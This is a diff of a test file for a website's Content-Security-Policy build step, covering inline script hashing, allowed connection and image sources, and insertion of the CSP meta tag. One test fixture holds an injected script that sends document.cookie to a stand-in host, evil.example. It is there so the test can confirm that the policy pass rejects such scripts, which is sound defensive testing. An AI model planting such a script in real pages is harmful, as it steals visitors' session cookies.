@@ -37,11 +37,7 @@ describe('inline script hashes', () => {
       '<script src="/_next/static/chunks/a.js" async=""></script><script id="_R_">self.a=1</script>',
       '<script>(self.__next_f=self.__next_f||[]).push([0])</script><script type="module">import "x"</script>',
     );
-    expect(inlineScriptHashes(html)).toEqual([
-      sha('self.a=1'),
-      sha('(self.__next_f=self.__next_f||[]).push([0])'),
-      sha('import "x"'),
-    ]);
+    expect(inlineScriptHashes(html)).toEqual([sha('self.a=1'), sha('(self.__next_f=self.__next_f||[]).push([0])'), sha('import "x"')]);
   });
 
   it('leaves out data blocks such as JSON-LD, and external scripts', () => {
@@ -86,11 +82,7 @@ describe('page policy', () => {
   });
 
   it('lets the browser talk only to the site, the blog API and EmailJS', () => {
-    expect(directive(policy, 'connect-src')).toEqual([
-      "'self'",
-      'https://public-api.wordpress.com',
-      'https://api.emailjs.com',
-    ]);
+    expect(directive(policy, 'connect-src')).toEqual(["'self'", 'https://public-api.wordpress.com', 'https://api.emailjs.com']);
   });
 
   it("loads images only from the site and the blog's image hosts", () => {
@@ -152,9 +144,7 @@ describe('meta insertion', () => {
 
   it('is the first child of <head> when there is no charset declaration first', () => {
     const out = insertCspMeta('<html><head><title>x</title></head></html>', "default-src 'self'");
-    expect(out).toBe(
-      `<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'self'"/><title>x</title></head></html>`,
-    );
+    expect(out).toBe(`<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'self'"/><title>x</title></head></html>`);
   });
 
   it('gives the same page on a second run instead of stacking policies', () => {
@@ -165,9 +155,7 @@ describe('meta insertion', () => {
 
   it('refuses a page whose policy could not precede its scripts, or that has no head', () => {
     expect(() => insertCspMeta('<html><body></body></html>', "default-src 'self'")).toThrow(/no <head>/);
-    expect(() => insertCspMeta('<script>a()</script><html><head></head></html>', "default-src 'self'")).toThrow(
-      /precedes/,
-    );
+    expect(() => insertCspMeta('<script>a()</script><html><head></head></html>', "default-src 'self'")).toThrow(/precedes/);
   });
 });
 
@@ -175,7 +163,9 @@ describe('strict inline scripts', () => {
   const sources = blogSources({});
 
   it('refuses to hash an inline script of a shape Next does not write, naming it', () => {
-    const html = page('<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>fetch("//evil.example/?"+document.cookie)</script>');
+    const html = page(
+      '<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>fetch("//evil.example/?"+document.cookie)</script>',
+    );
     expect(unknownInlineScripts(html)).toEqual(['fetch("//evil.example/?"+document.cookie)']);
     expect(() => applyPagePolicy(html, sources)).toThrow(/1 inline script\(s\) of a shape the CSP pass does not know[\s\S]*evil\.example/);
   });
